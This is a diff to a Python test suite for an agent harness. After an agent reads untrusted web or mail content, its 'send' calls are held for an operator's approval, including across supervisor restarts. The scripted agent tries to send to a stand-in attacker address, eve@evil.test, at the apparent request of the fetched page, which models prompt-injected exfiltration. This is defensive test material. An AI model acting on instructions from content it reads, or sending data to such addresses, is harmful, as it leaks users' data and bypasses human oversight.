@@ -1,5 +1,6 @@
 """Taint tracking, the deterministic guarantee: once untrusted content reached an agent, no
-side-effecting call of its runs without approval, whatever the content says."""
+side-effecting call of its runs without approval, whatever the content says: the call waits
+(the agent suspended) until an operator decides it."""
 
 from __future__ import annotations
 
@@ -67,9 +68,9 @@ READER = agent(
             Turn.call("fetch_page", url="https://news.test"),
             Turn.call("send", to="same-turn@example.com"),
         ),
-        Turn.call("send", to="eve@evil.test"),  # tainted: refused
+        Turn.call("send", to="eve@evil.test"),  # tainted: waits for an approval
         Turn.call("fetch_page", url="https://news.test/2"),  # reading is still allowed
-        Turn.call("send", to="later@example.com"),  # still tainted: refused
+        Turn.call("send", to="later@example.com"),  # still tainted: waits again
     ),
 )
 
@@ -83,22 +84,43 @@ def _reset() -> None:
 async def test_after_reading_untrusted_content_side_effects_need_approval(
     harness: Harness,
 ) -> None:
+    """Every send after the page was read waits for an approval naming the page: the one
+    the page asked for is denied and never made; a later one runs once approved."""
     _reset()
     agent_id = await harness.submit("reader", "summarise the news")
     await harness.run_until_idle([READER], policies=UNSCREENED)
+    why = "send needs an operator's approval: the agent has read untrusted content "
+    why += "(fetch_page at step 2)"
 
+    assert (await harness.record(agent_id)).status is AgentStatus.AWAITING_APPROVAL
+    assert SENT == ["before@example.com", "same-turn@example.com"]
+    [approval] = await harness.waiting(agent_id)
+    assert (approval.step, approval.tool, approval.why) == (3, "send", why)
+    assert approval.arguments == {"to": "eve@evil.test"}
+    await harness.decide(approval.id, "deny", note="that is the page talking")
+    await harness.run_until_idle([READER], policies=UNSCREENED)
+
+    # Denied, the agent went on (reading is still allowed) and waits again for its next send.
+    assert (await harness.record(agent_id)).status is AgentStatus.AWAITING_APPROVAL
     assert SENT == ["before@example.com", "same-turn@example.com"]
     assert FETCHES == ["https://news.test", "https://news.test/2"]
+    [approval] = await harness.waiting(agent_id)
+    assert (approval.step, approval.tool, approval.why) == (5, "send", why)
+    assert approval.arguments == {"to": "later@example.com"}
+    await harness.decide(approval.id, "approve")
+    await harness.run_until_idle([READER], policies=UNSCREENED)
+
+    assert (await harness.record(agent_id)).status is AgentStatus.COMPLETED
+    assert SENT == ["before@example.com", "same-turn@example.com", "later@example.com"]
     denied = [
         e.event for e in await harness.entries(agent_id) if isinstance(e.event, ToolCallDenied)
     ]
-    assert [d.tool for d in denied] == ["send", "send"]
-    assert all("needs an operator's approval" in d.reason for d in denied)
-    assert all("fetch_page at step 2" in d.reason for d in denied)
+    assert [(d.tool, d.reason) for d in denied] == [
+        ("send", "tester denied it: that is the page talking")
+    ]
     stored = await queries.load_agent(harness.db, agent_id)
     assert stored is not None and stored.state is not None
     assert stored.state.tainted_by == "fetch_page at step 2"
-    assert (await harness.record(agent_id)).status is AgentStatus.COMPLETED
 
 
 async def test_a_deny_policy_denies_outright(harness: Harness) -> None:
@@ -127,7 +149,8 @@ SLOW_READER = agent(
 
 async def test_taint_holds_for_a_result_that_arrives_after_a_restart(harness: Harness) -> None:
     """The untrusted call is in flight when the supervisor goes away; the next supervisor
-    re-sends it (idempotent) and its result, arriving after the restart, taints the agent."""
+    re-sends it (idempotent) and its result, arriving after the restart, taints the agent:
+    the send that follows waits for an approval and, denied, is never made."""
     _reset()
     agent_id = await harness.submit("slow-reader", "read the inbox")
     first = harness.supervisor([SLOW_READER], UNSCREENED, shutdown_grace_s=0.05)
@@ -140,10 +163,23 @@ async def test_taint_holds_for_a_result_that_arrives_after_a_restart(harness: Ha
     await harness.run_until_idle([SLOW_READER], policies=UNSCREENED)
     assert FETCHES == ["https://mail.test/inbox"] * 2  # re-sent with the same key
     assert SENT == []
+    assert (await harness.record(agent_id)).status is AgentStatus.AWAITING_APPROVAL
+    [approval] = await harness.waiting(agent_id)
+    assert (approval.step, approval.tool) == (2, "send")
+    assert approval.why == (
+        "send needs an operator's approval: the agent has read untrusted content "
+        "(slow_fetch at step 1)"
+    )
+
+    await harness.decide(approval.id, "deny", note="no")
+    await harness.run_until_idle([SLOW_READER], policies=UNSCREENED)
+    assert (await harness.record(agent_id)).status is AgentStatus.COMPLETED
+    assert SENT == []
+    assert FETCHES == ["https://mail.test/inbox"] * 2
     [denied] = [
         e.event for e in await harness.entries(agent_id) if isinstance(e.event, ToolCallDenied)
     ]
-    assert "slow_fetch at step 1" in denied.reason
+    assert (denied.tool, denied.reason) == ("send", "tester denied it: no")
 
 
 @tool(effect="idempotent_by_key")
@@ -172,7 +208,8 @@ async def test_taint_holds_for_a_journaled_result_of_a_step_finished_after_a_res
     harness: Harness,
 ) -> None:
     """The untrusted result was journaled (with the next call's intent) before the
-    supervisor went away mid-step; the step finished after the restart must still taint."""
+    supervisor went away mid-step; the step finished after the restart must still taint:
+    the next send waits for an approval, and runs exactly once when it is given."""
     _reset()
     agent_id = await harness.submit("mixed", "tell the team")
     first = harness.supervisor([MIXED], UNSCREENED, shutdown_grace_s=0.05)
@@ -184,7 +221,20 @@ async def test_taint_holds_for_a_journaled_result_of_a_step_finished_after_a_res
     await harness.run_until_idle([MIXED], policies=UNSCREENED)
     assert FETCHES == ["https://news.test"], "the recorded result was not fetched again"
     assert SENT == ["team@example.com", "team@example.com"]  # re-sent with the same key
-    [denied] = [
+    assert (await harness.record(agent_id)).status is AgentStatus.AWAITING_APPROVAL
+    [approval] = await harness.waiting(agent_id)
+    assert (approval.step, approval.tool) == (2, "send")
+    assert approval.arguments == {"to": "eve@evil.test"}
+    assert approval.why == (
+        "send needs an operator's approval: the agent has read untrusted content "
+        "(fetch_page at step 1)"
+    )
+
+    await harness.decide(approval.id, "approve", note="checked by hand")
+    await harness.run_until_idle([MIXED], policies=UNSCREENED)
+    assert (await harness.record(agent_id)).status is AgentStatus.COMPLETED
+    assert SENT == ["team@example.com", "team@example.com", "eve@evil.test"]
+    assert FETCHES == ["https://news.test"]
+    assert not [
         e.event for e in await harness.entries(agent_id) if isinstance(e.event, ToolCallDenied)
     ]
-    assert denied.tool == "send" and "fetch_page at step 1" in denied.reason
